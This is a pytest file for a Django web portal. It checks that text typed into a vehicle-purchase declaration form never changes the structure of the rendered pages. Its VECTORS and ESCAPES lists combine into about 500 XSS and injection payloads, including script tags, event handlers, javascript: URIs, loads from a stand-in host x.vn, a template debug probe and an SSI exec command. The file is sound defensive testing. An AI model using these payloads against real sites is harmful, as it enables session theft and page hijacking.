"""Whatever is typed stays text: five hundred attempts to become part of a page, in every text field of a declaration."""

from datetime import timedelta
from html.parser import HTMLParser
from itertools import product

import pytest
from django.test import override_settings
from tests.web.portal.people import PINS, as_person, begun, seen, version

from sosach.domain.access.rules.budgets import Bucket, Limits

pytestmark = pytest.mark.usefixtures("town")
PLENTY = Bucket(size=10**9, refill=timedelta(microseconds=1))
KIND = "vehicle_bought_with_papers"
SHORT, LONGEST = 250, {"hands": 2_000}
FIELDS = {
    1: ("plate", "chassis_number", "engine_number"),
    2: ("seller_name", "seller_pin"),
    3: ("owner_paper_number", "hands"),
    4: ("paper_number",),
}
ESCAPES = (
    "",
    '"',
    "'",
    "-->",
    "</textarea>",
    "</title>",
    "</dd>",
    '">',
    "'>",
    "`",
    "{{",
    "{%",
    "]]>",
    "%3C",
    "&lt;",
    "\\u003c",
)
VECTORS = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//x.vn/a.js>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<form action=//x.vn><button>x",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<math><mtext><script>alert(1)</script>",
    "<style>@import '//x.vn/a.css'</style>",
    "<link rel=stylesheet href=//x.vn/a.css>",
    "<meta http-equiv=refresh content='0;url=//x.vn'>",
    "<base href=//x.vn/>",
    "<object data=//x.vn/a.swf>",
    "<embed src=javascript:alert(1)>",
    "<marquee onstart=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "onmouseover=alert(1) x=",
    "javascript:alert(1)//",
    "7*7}}{% debug %}{{ request.session",
    "<div hx-get=//x.vn hx-trigger=load>",
    "<!--#exec cmd='id'-->",
    "\u202ealert(1)\u202c<b>",
    "<\u0131mg src=x onerror=alert(1)>",
    "\ufeff<script>alert(1)</script>",
)
STRINGS = [before + vector for before, vector in product(ESCAPES, VECTORS)]


class Skeleton(HTMLParser):
    """Elements of a page with the names of their attributes: what text cannot change."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[tuple[str, ...]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, *(name for name, _ in attrs)))

    def handle_endtag(self, tag: str) -> None:
        self.found.append((f"/{tag}",))


def skeleton(page: str) -> list[tuple[str, ...]]:
    """Of a page."""
    parser = Skeleton()
    parser.feed(page)
    return parser.found


def test_there_are_five_hundred() -> None:
    assert len(set(STRINGS)) >= 500


def packed(strings: list[str], rooms: list[int]) -> list[list[str]]:
    """All strings, as many to a field as it has room for; a list of fields after the other."""
    left, found = list(strings), []
    while left:
        found.append([])
        for room in rooms:
            told = [left.pop(0)] if left else []
            while left and len(" ".join([*told, left[0]])) <= room:
                told.append(left.pop(0))
            found[-1].append(" ".join(told) or "x")
    return found


@override_settings(SOSACH_LIMITS=Limits(requests=PLENTY, misses=PLENTY))
def test_text_stays_text() -> None:
    client = as_person(PINS["an"])
    base = begun(client, KIND).removesuffix("trang/1/")
    client.post(f"{base}trang/2/", {"version": version(seen(client, f"{base}trang/2/")), "through_several": "yes"})
    names = [(number, name) for number, several in FIELDS.items() for name in several]
    pages = [*(f"{base}trang/{number}/" for number in FIELDS), f"{base}xem-lai/"]
    plain: dict[str, list[tuple[str, ...]]] = {}
    batches = [["Chữ thường"] * len(names), *packed(STRINGS, [LONGEST.get(name, SHORT) for _, name in names])]
    for batch in batches:
        told = dict(zip(names, batch, strict=False))
        for number, several in FIELDS.items():
            address = f"{base}trang/{number}/"
            answers = {name: told.get((number, name), "x") for name in several}
            kept = {"through_several": "yes"} if "seller_name" in several else {}
            response = client.post(address, {"version": version(seen(client, address)), **kept, **answers})
            assert response.status_code in {303, 422}, response.status_code
        for address in pages:
            found = skeleton(seen(client, address))
            assert plain.setdefault(address, found) == found, (address, batch)
